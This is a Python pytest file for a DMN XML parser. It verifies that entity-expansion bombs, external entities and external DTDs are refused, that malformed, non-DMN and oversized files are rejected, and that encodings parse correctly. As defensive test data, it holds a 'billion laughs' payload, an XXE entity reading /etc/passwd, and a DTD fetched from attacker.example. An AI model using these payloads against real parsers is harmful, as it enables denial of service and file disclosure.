"""Hostile or broken XML is refused with a clear ModelError, never expanded or fetched."""

from __future__ import annotations

import pytest

from conveyor.engine.dmn import parse_dmn, xml_source
from conveyor.engine.errors import ModelError

DMN13 = "https://www.omg.org/spec/DMN/20191111/MODEL/"

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<definitions xmlns="{DMN13}" id="d" name="&lol4;"/>
"""

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE definitions [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<definitions xmlns="{DMN13}" id="d" name="&secret;"/>
"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<definitions xmlns="{DMN13}" id="d"/>
"""


@pytest.mark.parametrize(
    "source", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "external-dtd"]
)
def test_entities_and_external_dtds_are_refused(source):
    with pytest.raises(ModelError) as caught:
        parse_dmn(source, file="evil.dmn")
    problem = caught.value.problems[0]
    assert problem.code == "dmn.xml_entities_refused"
    assert problem.file == "evil.dmn"
    assert "DOCTYPE" in problem.hint
    assert "root:" not in str(caught.value)  # nothing from /etc/passwd leaked into the message


def test_malformed_xml_names_the_line():
    source = f'<definitions xmlns="{DMN13}" id="d">\n  <decision id="x">\n</definitions>'
    with pytest.raises(ModelError) as caught:
        parse_dmn(source, file="broken.dmn")
    problem = caught.value.problems[0]
    assert problem.code == "dmn.xml_syntax"
    assert problem.line == 3


def test_a_file_that_is_not_dmn_is_refused():
    source = '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="p"/>'
    with pytest.raises(ModelError, match="not DMN definitions"):
        parse_dmn(source)


def test_an_oversized_file_is_refused_before_parsing(monkeypatch):
    monkeypatch.setattr(xml_source, "MAX_SOURCE_BYTES", 100)
    source = f'<definitions xmlns="{DMN13}" id="d" name="{"x" * 200}"/>'
    with pytest.raises(ModelError) as caught:
        parse_dmn(source)
    assert caught.value.problems[0].code == "dmn.too_large"


def test_text_with_a_foreign_encoding_declaration_still_parses():
    source = f'<?xml version="1.0" encoding="ISO-8859-1"?>\n<definitions xmlns="{DMN13}" id="d" name="Café"/>'
    assert parse_dmn(source).name == "Café"


def test_text_with_a_byte_order_mark_parses():
    assert parse_dmn(f'\ufeff<?xml version="1.0"?>\n<definitions xmlns="{DMN13}" id="d"/>').id == "d"
